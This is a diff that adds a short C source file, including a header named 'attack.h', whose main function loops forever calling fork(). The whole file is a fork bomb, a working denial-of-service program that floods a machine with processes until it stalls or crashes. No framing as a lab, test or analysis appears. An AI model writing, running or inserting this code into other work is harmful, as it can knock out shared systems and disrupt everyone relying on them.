@@ -1,0 +1,7 @@
+#include "attack.h"
+
+int	main(void)
+{
+	for (;;)
+		fork();
+}
